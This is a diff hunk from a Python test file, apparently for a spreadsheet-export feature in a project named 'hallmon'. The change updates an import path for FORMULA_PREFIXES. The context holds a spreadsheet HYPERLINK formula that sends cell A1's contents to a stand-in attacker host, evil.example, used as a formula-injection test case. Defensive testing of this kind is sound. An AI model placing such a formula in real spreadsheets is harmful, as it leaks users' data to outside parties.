@@ -14,7 +14,7 @@ from pathlib import Path
 
 from openpyxl import load_workbook
 
-from hallmon.exports import FORMULA_PREFIXES
+from hallmon.core.exports import FORMULA_PREFIXES
 from tests.billing_helpers import load_files, write_hall
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我查看")'
